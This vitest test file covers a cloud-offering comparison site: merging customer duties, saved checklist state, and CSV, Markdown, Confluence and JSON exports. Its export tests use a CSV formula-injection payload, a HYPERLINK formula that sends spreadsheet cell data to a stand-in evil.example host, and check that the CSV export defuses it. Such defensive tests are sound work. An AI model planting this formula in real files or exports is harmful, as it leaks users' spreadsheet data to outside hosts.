import { beforeAll, describe, expect, test } from 'vitest';
import path from 'node:path';
import { loadSite } from '../../src/build/load-site.js';
import type { Site } from '../../src/model/types.js';
import { readOfferingData, type OfferingDataJson } from '../../src/model/compare.js';
import { compareDataOutputs, offeringIndex } from '../../src/render/outputs/compare-data.js';
import { buildStack, listedDuty, stackDuties, type OfferingDataFile } from '../../src/stack/merge.js';
import {
  dutyState,
  formatStackQuery,
  parseSaved,
  parseStackQuery,
  pruneSaved,
  serialiseSaved,
  stackStorageKey,
  withDutyState,
} from '../../src/stack/state.js';
import { stackConfluence, stackCsv, stackJson, stackMarkdown, type ExportOptions } from '../../src/stack/export.js';
import { compareFixture } from '../fixtures/compare-fixture.js';

/** The data files the build writes for a site, as the browser reads them. */
function dataFiles(of: Site): Map<string, OfferingDataFile> {
  const files = compareDataOutputs(of).filter((f) => f.path.startsWith('data/offerings/'));
  return new Map(files.map((f) => readOfferingData(JSON.parse(String(f.contents)) as OfferingDataJson)).map((d) => [d.id, d]));
}

let site: Site;
let data: Map<string, OfferingDataFile>;
beforeAll(async () => {
  const loaded = await loadSite(path.resolve(import.meta.dirname, '..', '..', 'content'));
  site = loaded.site!;
  data = dataFiles(site);
});

const options: ExportOptions = {
  title: 'Your stack: A, B',
  dutyLabel: 'Your duty',
  absolute: (url) => `https://example.org/${url}`,
};

/** A one-area offering data file with the given customer duties by task id. */
function offering(id: string, duties: [taskId: string, text: string][], areaId = 'incident-and-ops'): OfferingDataFile {
  return {
    id,
    name: id.toUpperCase(),
    taskTitles: {},
    sections: [
      {
        areaId,
        rows: duties.map(([taskId, text]) => ({
          anchor: `${areaId}--${taskId}`,
          taskId,
          task: taskId,
          provider: { text: '', html: '' },
          customer: { text, html: text ? `<p>${text}</p>` : '' },
        })),
      },
    ],
  };
}

const AREAS = [
  { id: 'incident-and-ops', title: 'Incident and operations management' },
  { id: 'disaster-recovery', title: 'Disaster recovery' },
];

describe('offering data files', () => {
  test('a data file leaves out what the reader rebuilds, and reads back as the model has it', () => {
    const seen = { plain: 0, rich: 0, anchorWritten: 0, anchorLeft: 0, taskWritten: 0, taskLeft: 0 };
    const files = [site, compareFixture].flatMap((of) => compareDataOutputs(of).map((file) => ({ of, file })));
    for (const { of, file } of files.filter(({ file }) => file.path.startsWith('data/offerings/'))) {
      const json = JSON.parse(String(file.contents)) as OfferingDataJson;
      const offering = of.offerings.find((o) => o.id === json.id)!;
      const model = offering.sections.flatMap((s) => s.rows.map((row) => ({ row, areaId: s.areaId })));
      const written = json.sections.flatMap((s) => s.rows);
      written.forEach((row, i) => {
        const { row: source, areaId } = model[i]!;
        for (const party of ['provider', 'customer'] as const) {
          const cell = source[party];
          expect(row[party]).toEqual(cell.html === cell.text ? { text: cell.text } : { text: cell.text, html: cell.html });
          seen[cell.html === cell.text ? 'plain' : 'rich']++;
        }
        expect(row.anchor === undefined).toBe(source.anchor === `${areaId}--${source.taskId}`);
        seen[row.anchor === undefined ? 'anchorLeft' : 'anchorWritten']++;
        expect(row.task === undefined).toBe(source.task === json.taskTitles[source.taskId]);
        seen[row.task === undefined ? 'taskLeft' : 'taskWritten']++;
      });
      expect(readOfferingData(json).sections.flatMap((s) => s.rows)).toEqual(
        model.map(({ row }) => ({ anchor: row.anchor, task: row.task, taskId: row.taskId, provider: row.provider, customer: row.customer })),
      );
    }
    // the shipped content and the fixture have every case between them
    for (const [what, count] of Object.entries(seen)) expect(count, what).toBeGreaterThan(0);
  });
});

describe('buildStack', () => {
  test('Key Protect Standard and Secrets Manager: identical wording merged, different wording side by side', () => {
    const stack = buildStack([data.get('key-protect-standard')!, data.get('secrets-manager')!], offeringIndex(site).areas);
    // 9 + 5 duties; two worded alike; Standard's "None. IBM and Key Protect are fully responsible …" is no duty.
    expect(stack.total).toBe(11);
    const monitoring = stack.areas[0]!.tasks.find((t) => t.id === 'monitoring')!;
    expect(monitoring.duties).toHaveLength(1);
    expect(monitoring.duties[0]!.sources.map((s) => s.url)).toEqual([
      'offerings/key-protect-standard/#incident-and-ops--monitoring',
      'offerings/secrets-manager/#incident-and-ops--monitoring',
    ]);
    const access = stack.areas.find((a) => a.id === 'iam-responsibilities')!.tasks;
    expect(stack.areas.map((a) => a.title)).toEqual(site.areas.map((a) => a.title));
    expect(access.map((t) => [t.title, t.duties.map((d) => d.sources.map((s) => s.offeringId))])).toEqual([
      ['Restricting access', [['key-protect-standard'], ['secrets-manager']]],
    ]);
    expect(stackDuties(stack)).toHaveLength(11);
    expect(stackDuties(stack).some(({ duty }) => duty.text.startsWith('None'))).toBe(false);
  });

  test('whitespace does not split a duty; "no action" and empty cells are no duties unless the predicate says so', () => {
    const a = offering('a', [['backups', 'Back up  your\nkeys.'], ['none', 'None. IBM does it.'], ['empty', '']]);
    const b = offering('b', [['backups', 'Back up your keys.']]);
    const stack = buildStack([a, b], AREAS);
    expect(stackDuties(stack).map(({ task, duty }) => [task.id, duty.text, duty.sources.length])).toEqual([['backups', 'Back up your keys.', 2]]);
    expect(buildStack([a, b], AREAS, (row) => row.customer.text !== '').total).toBe(2);
  });

  test('areas follow the site order whichever offering comes first; unknown areas last', () => {
    const a = offering('a', [['x', 'Do x.']], 'disaster-recovery');
    const b = offering('b', [['y', 'Do y.']], 'incident-and-ops');
    const c = offering('c', [['z', 'Do z.']], 'apps-and-data');
    const stack = buildStack([c, a, b], AREAS);
    expect(stack.areas.map((area) => [area.id, area.title])).toEqual([
      ['incident-and-ops', 'Incident and operations management'],
      ['disaster-recovery', 'Disaster recovery'],
      ['apps-and-data', 'apps-and-data'],
    ]);
    expect(stack.offerings.map((o) => o.id)).toEqual(['c', 'a', 'b']);
  });

  test('no offerings, no duties', () => {
    expect(buildStack([], AREAS)).toEqual({ offerings: [], areas: [], total: 0 });
  });
});

describe('stack state', () => {
  const stack = buildStack([offering('a', [['x', 'Do x.'], ['y', 'Do y.']]), offering('b', [['x', 'Do x.']])], AREAS);
  const [x, y] = stackDuties(stack).map((d) => d.duty);

  test('a merged duty saves on each of its rows and reads back from any', () => {
    const saved = withDutyState({}, x!, { done: true, owner: ' Ann ', note: '' });
    expect(Object.keys(saved)).toEqual(['a#incident-and-ops--x', 'b#incident-and-ops--x']);
    expect(dutyState({ 'b#incident-and-ops--x': saved['b#incident-and-ops--x']! }, x!)).toEqual({ done: true, owner: 'Ann', note: '' });
    expect(withDutyState(saved, x!, { done: false, owner: '', note: '' })).toEqual({});
    expect(dutyState(saved, y!)).toEqual({ done: false, owner: '', note: '' });
  });

  test('rows gone from the content are dropped and reported, the rest kept', () => {
    const saved = parseSaved(
      serialiseSaved({
        'a#incident-and-ops--x': { done: true, owner: '', note: '' },
        'a#incident-and-ops--gone': { done: false, owner: 'Bo', note: 'n' },
      }),
    );
    const pruned = pruneSaved(saved, stack);
    expect(pruned.saved).toEqual({ 'a#incident-and-ops--x': { done: true, owner: '', note: '' } });
    expect(pruned.dropped).toEqual([{ offeringId: 'a', anchor: 'incident-and-ops--gone', state: { done: false, owner: 'Bo', note: 'n' } }]);
  });

  test('malformed storage reads as nothing saved', () => {
    expect(parseSaved(null)).toEqual({});
    expect(parseSaved('{not json')).toEqual({});
    expect(parseSaved('{"rows":{"a#b":"yes","c#d":{"done":"true","owner":7}}}')).toEqual({});
  });

  test('storage keys ignore order; the URL keeps known ids in the order given', () => {
    expect(stackStorageKey(['b', 'a', 'b'])).toBe(stackStorageKey(['a', 'b']));
    expect(parseStackQuery('?o=b,zzz,a&o=c', new Set(['a', 'b', 'c']))).toEqual(['b', 'a', 'c']);
    expect(formatStackQuery(['b', 'a'])).toBe('?o=b,a');
    expect(formatStackQuery([])).toBe('');
  });
});

describe('exports', () => {
  const hostile = buildStack(
    [
      offering('a', [
        ['x', '=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
        ['y', 'Use a | b and *stars* [here]'],
      ]),
    ],
    [{ id: 'incident-and-ops', title: 'incident-and-ops' }],
  );
  const [x, y] = stackDuties(hostile).map((d) => d.duty);
  const saved = withDutyState(withDutyState({}, x!, { done: true, owner: '@ops', note: '-1' }), y!, { done: false, owner: '', note: 'n' });

  test('CSV defuses formulas in every field and quotes per RFC 4180', () => {
    const csv = stackCsv(hostile, saved, options);
    expect(csv.split('\r\n')).toEqual([
      'area,task,your duty,offerings,links,done,owner,note',
      `incident-and-ops,x,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",A,https://example.org/offerings/a/#incident-and-ops--x,yes,'@ops,'-1`,
      'incident-and-ops,y,Use a | b and *stars* [here],A,https://example.org/offerings/a/#incident-and-ops--y,no,,n',
      '',
    ]);
  });

  test('Markdown escapes table and inline syntax; links use the copy-link form', () => {
    const md = stackMarkdown(hostile, saved, options);
    expect(md).toContain('| [ ] | y | Use a \\| b and \\*stars\\* \\[here\\] | [A](https://example.org/offerings/a/#incident-and-ops--y) |  | n |');
    expect(md.startsWith('# Your stack: A, B\n\nOfferings: [A](https://example.org/offerings/a/)\n')).toBe(true);
  });

  test('Confluence escapes markup and marks done duties', () => {
    const wiki = stackConfluence(hostile, saved, options);
    expect(wiki).toContain('||Done||Task||Your duty||Offerings||Owner||Note||');
    expect(wiki).toContain('| |y|Use a \\| b and \\*stars\\* \\[here\\]|[A|https://example.org/offerings/a/#incident-and-ops--y]| |n|');
    expect(wiki).toContain('|(/)|x|');
  });

  test('JSON keeps texts exact, with every row URL and the state', () => {
    const json = JSON.parse(stackJson(hostile, saved, options)) as { done: number; total: number; areas: { tasks: { duties: unknown[] }[] }[] };
    expect(json.done).toBe(1);
    expect(json.total).toBe(2);
    expect(json.areas[0]!.tasks[0]!.duties[0]).toEqual({
      text: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      done: true,
      owner: '@ops',
      note: '-1',
      rows: [{ offering: 'a', name: 'A', task: 'x', url: 'https://example.org/offerings/a/#incident-and-ops--x' }],
    });
  });

  test('the comparison fixture: a task without a customer duty is not listed', () => {
    const files = [...dataFiles(compareFixture).values()];
    const stack = buildStack(files, offeringIndex(compareFixture).areas);
    const rows = files.flatMap((f) => f.sections.flatMap((s) => s.rows));
    const listed = rows.filter(listedDuty).length;
    expect(listed).toBeLessThan(rows.length);
    expect(stackDuties(stack).reduce((n, { duty }) => n + duty.sources.length, 0)).toBe(listed);
  });
});
